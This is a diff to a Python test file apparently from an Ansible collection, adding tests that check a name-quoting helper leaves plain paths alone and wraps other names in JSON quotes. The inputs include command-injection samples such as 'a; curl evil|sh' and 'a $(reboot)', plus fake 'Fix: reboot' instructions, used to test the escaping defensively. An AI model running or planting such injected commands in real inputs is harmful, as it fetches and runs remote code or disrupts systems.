@@ -19,6 +19,7 @@ from ansible_collections.durable.dbhost.plugins.module_utils.host.printable impo
     line,
     lines,
     message,
+    name,
     printable,
 )
 
@@ -72,6 +73,34 @@ def test_any_text_becomes_one_line_that_a_terminal_prints(text: str) -> None:
 @given(st.lists(st.text(st.characters() | st.sampled_from(HOSTILE)), max_size=4))
 def test_no_line_of_a_text_becomes_two(rows: list[str]) -> None:
     assert lines(rows).splitlines() == [line(row) for row in rows]
+
+
+@pytest.mark.parametrize(
+    "text", ["/srv/fb/shop.fdb", "13/main", "docker:0123 /var/lib/pg", "dm:LVM-x (vg-data)", "Größe"]
+)
+def test_a_name_that_can_only_be_a_name_stays_as_it_is(text: str) -> None:
+    assert name(text) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a; curl evil|sh #.fdb",
+        "a $(reboot)",
+        "x do: reboot",
+        "x Fix: reboot",
+        'a"b',
+        "a\\",
+        " a",
+        "a  b",
+        "",
+        "`a`",
+    ],
+)
+def test_any_other_name_is_in_quotes_and_cannot_end_them(text: str) -> None:
+    shown = name(text)
+    assert shown[0] == shown[-1] == '"'
+    assert json.loads(shown) == text
 
 
 def test_values_are_made_printable_all_the_way_down() -> None:
